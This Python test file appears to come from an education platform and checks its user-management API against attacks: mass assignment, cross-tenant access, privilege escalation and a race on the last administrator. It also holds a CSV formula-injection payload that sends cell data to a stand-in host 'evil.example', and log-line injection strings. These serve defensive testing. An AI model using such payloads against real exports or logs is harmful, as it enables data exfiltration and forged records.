"""Attacks on people and memberships, each by its name."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from typing import Any
from uuid import UUID

import pytest
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from edurise.authz import ANY_PERSON, Principal
from edurise.identity.models import Person
from edurise.notifications import preferences
from edurise.tenants import service
from edurise.tenants.models import Membership
from tests.harness.authenticator import enrolled
from tests.harness.client import Client
from tests.harness.world import Someone, World

USERS = "/api/v1/users"
PREFERENCES = "/api/v1/notifications/preferences/"
ACTS = ("activate", "deactivate", "promote_teacher", "promote_admin", "demote")
FORBIDDEN = {
    "is_superuser": True,
    "is_staff": True,
    "is_platform_admin": True,
    "is_verified": True,
    "email_verified_at": "2026-01-01T00:00:00Z",
    "token_version": 9,
    "tenant_id": "00000000-0000-7000-8000-000000000001",
    "id": "00000000-0000-7000-8000-000000000001",
    "password": "correct horse battery 8",
    "has_second_factor": False,
}


def as_stored(world: World, *person_ids: UUID) -> list[dict[str, Any]]:
    """Everything of these people and of their memberships."""

    def read(session: Session) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = []
        for model, column in ((Person, Person.id), (Membership, Membership.person_id)):
            table = model.__table__
            query = select(table).where(column.in_(person_ids)).order_by(table.c.id)
            found += [dict(row) for row in session.execute(query).mappings()]
        return found

    return world.c.db.system_sync(read)


def named(world: World, person: Someone, first_name: str) -> None:
    def rename(session: Session) -> None:
        session.get_one(Person, person.id).first_name = first_name

    world.c.db.system_sync(rename)


def school(world: World) -> tuple[UUID, Client, Someone]:
    """An organization, its administrator's client, and a student of it."""
    tenant_id = world.organization()
    return tenant_id, world.of(world.person("admin", tenant_id)), world.person(tenant_id=tenant_id)


@pytest.mark.gen_test
@pytest.mark.parametrize("name", FORBIDDEN)
async def test_mass_assignment_by_an_administrator(world: World, name: str) -> None:
    _, administrator, student = school(world)
    before, extra = as_stored(world, student.id), {name: FORBIDDEN[name]}
    bodies = {
        ("PATCH", f"{USERS}/{student.id}/"): {"role": "teacher", **extra},
        ("POST", f"{USERS}/"): {"email": "new@example.org", "role": "student", **extra},
        ("POST", f"{USERS}/bulk_update/"): {"user_ids": [str(student.id)], "updates": {"role": "teacher", **extra}},
        ("POST", f"{USERS}/{student.id}/promote_admin/"): extra,
    }
    for (verb, path), body in bodies.items():
        refused = await administrator.call(verb, path, body)
        assert (refused.status, [key.rpartition(".")[2] for key in refused.body["errors"]]) == (400, [name]), path
    assert as_stored(world, student.id) == before


@pytest.mark.gen_test
@pytest.mark.parametrize("role", ["superuser", "platform", "owner", "Admin", "", None, 1])
async def test_a_role_that_there_is_not(world: World, role: object) -> None:
    _, administrator, student = school(world)
    assert (await administrator.patch(f"{USERS}/{student.id}/", {"role": role})).status == 400
    invited = await administrator.post(f"{USERS}/", {"email": "new@example.org", "role": role})
    assert invited.status == 400


@pytest.mark.gen_test
async def test_an_administrator_of_another_organization_reaches_nobody_by_any_verb(world: World) -> None:
    theirs, _, student = school(world)
    applicant = world.person(tenant_id=theirs, teaches=True)
    listed = (await world.of(applicant).get("/api/v1/teacher-approvals/")).data["results"]
    _, attacker, _ = school(world)
    before = as_stored(world, student.id, applicant.id)
    calls: list[tuple[str, str, dict[str, Any] | None]] = []
    for target in (student.id, applicant.id, listed[0]["id"]):
        path = f"{USERS}/{target}/"
        calls += [("GET", path, None), ("DELETE", path, None)]
        calls += [("PATCH", path, body) for body in ({"first_name": "Eve"}, {"email": "eve@example.org"})]
        calls += [("PATCH", path, body) for body in ({"is_active": False}, {"is_approved_teacher": True})]
        calls += [("POST", f"{path}{act}/", {}) for act in ACTS]
    for verb, path, body in calls:
        for prefix in (path, path.replace("/v1/users", "/v1/accounts/users")):
            assert (await attacker.call(verb, prefix, body)).status == 404, (verb, prefix)
            inside = await attacker.call(verb, prefix, body, headers={"X-Tenant-ID": str(theirs)})
            assert (inside.status, inside.code) == (403, "TENANT_ACCESS_ERROR"), (verb, prefix)
    ids = [str(student.id), str(applicant.id), listed[0]["id"]]
    for verb, more in (("bulk_update", {"updates": {"is_active": False}}), ("bulk_delete", {})):
        answer = await attacker.post(f"{USERS}/{verb}/", {"user_ids": ids, **more})
        assert answer.data == {"updated": 0, "failed": [{"id": one, "code": "NOT_FOUND"} for one in ids]}
    assert as_stored(world, student.id, applicant.id) == before
    for path in (f"{USERS}/", f"{USERS}/?search={student.email}", f"{USERS}/export/"):
        assert student.email.encode() not in (await attacker.get(path)).content


@pytest.mark.gen_test
async def test_an_administrator_changes_no_name_and_no_address_of_who_belongs_elsewhere_too(world: World) -> None:
    _, administrator, student = school(world)
    elsewhere = world.organization()

    def join(session: Session) -> None:
        service.join(session, elsewhere, student.id)
        session.execute(text("UPDATE memberships SET is_active = false WHERE tenant_id = :t"), {"t": elsewhere})

    world.c.db.system_sync(join)
    before = as_stored(world, student.id)
    for body in ({"first_name": "Eve"}, {"last_name": "Eve"}, {"email": "eve@example.org"}):
        refused = await administrator.patch(f"{USERS}/{student.id}/", {**body, "role": "teacher"})
        assert (refused.status, refused.code) == (409, "PERSON_BELONGS_ELSEWHERE"), "a closed membership is one too"
    assert as_stored(world, student.id) == before, "all or nothing"


@pytest.mark.gen_test
async def test_neither_a_teacher_nor_a_student_manages_anybody(world: World) -> None:
    tenant_id, _, student = school(world)
    before = as_stored(world, student.id)
    for client in (world.of(world.person(role, tenant_id)) for role in ("teacher", "student")):
        for path in ("/", "/export/", "/all_with_roles/", f"/{student.id}/"):
            assert (await client.get(f"{USERS}{path}")).status == 403, path
        for act in ACTS:
            assert (await client.post(f"{USERS}/{student.id}/{act}/", {})).status == 403, act
        assert (await client.patch(f"{USERS}/{student.id}/", {"role": "admin"})).status == 403
        assert (await client.call("DELETE", f"{USERS}/{student.id}/")).status == 403
        bulk = {"user_ids": [str(student.id)]}
        assert (await client.post(f"{USERS}/bulk_delete/", bulk)).status == 403
        assert (await client.post(f"{USERS}/bulk_update/", {**bulk, "updates": {"role": "admin"}})).status == 403
    assert as_stored(world, student.id) == before


@pytest.mark.gen_test
async def test_an_organization_s_administrator_touches_no_platform_administrator_s_account(world: World) -> None:
    tenant_id = world.organization()
    administrator = world.of(world.person("admin", tenant_id))
    platform = world.person(tenant_id=tenant_id, platform=True)
    for body in ({"first_name": "Eve"}, {"email": "eve@example.org"}):
        assert (await administrator.patch(f"{USERS}/{platform.id}/", body)).status == 409
    assert (await administrator.call("DELETE", f"{USERS}/{platform.id}/")).status == 200, "a membership is a membership"
    assert (await world.of(platform).get(f"{USERS}/all_with_roles/")).status == 200


@pytest.mark.gen_test(timeout=60)
@pytest.mark.parametrize("act", ["demote", "deactivate", "delete"])
async def test_the_last_administrator_survives_a_race(world: World, act: str) -> None:
    for _ in range(5):
        tenant_id = world.organization()
        pair = [world.person("admin", tenant_id) for _ in range(2)]

        async def end(by: Someone, other: Someone) -> int:
            path = f"{USERS}/{other.id}/"
            verb, target = ("DELETE", path) if act == "delete" else ("POST", f"{path}{act}/")
            return (await world.of(by).call(verb, target, None if act == "delete" else {})).status

        ended = await asyncio.gather(end(*pair), end(*pair[::-1]))
        assert ended.count(200) == 1, ended
        left = [row for row in as_stored(world, *(one.id for one in pair)) if row.get("tenant_id") == tenant_id]
        assert sum(row["role"] == "admin" and row["is_active"] for row in left) == 1


@pytest.mark.gen_test
async def test_whoever_has_a_second_factor_promotes_and_exports_only_with_a_fresh_one(world: World) -> None:
    tenant_id = world.organization()
    administrator, student = world.person("admin", tenant_id), world.person(tenant_id=tenant_id)
    await enrolled(world, administrator)
    client = world.of(administrator)
    await stale(world, administrator)
    invited = {"email": "new@example.org", "first_name": "N", "last_name": "N", "role": "admin"}
    for verb, path, body in (
        ("POST", f"{USERS}/{student.id}/promote_admin/", {}),
        ("GET", f"{USERS}/export/", None),
        ("PATCH", f"{USERS}/{student.id}/", {"role": "admin"}),
        ("POST", "/api/v1/organizations/current/invitations/", invited),
    ):
        refused = await client.call(verb, path, body)
        assert (refused.status, refused.code) == (403, "STEP_UP_REQUIRED"), path
    many = {"user_ids": [str(student.id)], "updates": {"role": "admin"}}
    failed = (await client.post(f"{USERS}/bulk_update/", many)).data
    assert failed == {"updated": 0, "failed": [{"id": str(student.id), "code": "STEP_UP_REQUIRED"}]}
    assert [row["role"] for row in as_stored(world, student.id) if "role" in row] == ["student"]
    assert (await client.patch(f"{USERS}/{student.id}/", {"role": "teacher"})).status == 200


async def stale(world: World, person: Someone) -> None:
    """The factor was given long ago."""

    def forget(session: Session) -> None:
        session.execute(text("UPDATE sessions SET proved_at = NULL WHERE person_id = :id"), {"id": person.id})

    world.c.db.system_sync(forget)


# -- texts that other programs read ------------------------------------------------------------------------------------


@pytest.mark.gen_test
@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
async def test_a_cell_of_a_sheet_is_no_formula(world: World, first: str) -> None:
    _, administrator, student = school(world)
    attack = f'{first}HYPERLINK("https://evil.example/?"&A1,"open")'
    named(world, student, attack)
    answer = await administrator.get(f"{USERS}/export/?format=csv")
    named(world, student, "Ada")  # no name that came by the API has such characters, and other tests list everybody
    assert "attachment" in answer.headers["Content-Disposition"]
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")) for cell in row]
    assert f"'{attack}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.gen_test
@pytest.mark.parametrize("breaking", ["\n", "\r\n", "\x00", "\x1b[2J", "\u2028"])
async def test_nobody_writes_lines_of_the_log_or_headers_of_a_mail(world: World, breaking: str) -> None:
    _, administrator, student = school(world)
    forged = f'Ada{breaking}{{"event": "session.opened", "user": "root"}}'
    client = world.of(student)
    statuses = {
        (await client.patch(f"{USERS}/me/", {"first_name": forged})).status,
        (await client.patch("/api/v1/user-profiles/me/", {"last_name": forged})).status,
        (await administrator.patch(f"{USERS}/{student.id}/", {"first_name": forged})).status,
        (await administrator.post(f"{USERS}/", {"email": "new@example.org", "first_name": forged})).status,
    }
    assert statuses == ({200, 201} if breaking == "\u2028" else {400})
    asked = "".join(f"%{byte:02x}" for byte in forged.encode())
    await administrator.get(f"{USERS}/?search={asked}")
    for line in world.log.getvalue().splitlines():
        assert json.loads(line).get("event") != "session.opened"


# -- what members chose ------------------------------------------------------------------------------------------------


@pytest.mark.gen_test
async def test_what_somebody_wants_to_be_told_is_not_shown_to_another_organization(world: World) -> None:
    _, administrator, student = school(world)
    _, _, stranger = school(world)
    chosen = {"system_notifications": False}
    for person in (student, stranger):
        assert (await world.of(person).call("PUT", PREFERENCES, chosen)).status == 200

    def choices(session: Session, _who: Principal) -> list[UUID]:
        asked = text("SELECT person_id FROM notification_choices(CAST(:ids AS uuid[]))")
        found = session.execute(asked, {"ids": [str(student.id), str(stranger.id)]})
        return [row.person_id for row in found]

    def rows(session: Session, _who: Principal) -> list[UUID]:
        return [row.person_id for row in session.execute(text("SELECT person_id FROM notification_preferences"))]

    asker = world.person("admin", student.tenant_id).principal.needing(ANY_PERSON)
    assert world.c.db.run_sync(asker, choices) == [student.id]
    assert world.c.db.run_sync(asker, rows) == [], "the rows are their person's alone"
    for body in ({"person_id": str(student.id)}, {"user_id": str(student.id)}):
        assert (await administrator.call("PUT", PREFERENCES, body)).status == 400
    own = world.c.db.run_sync(student.principal.needing(ANY_PERSON), preferences.own)
    assert own["system_notifications"] is False
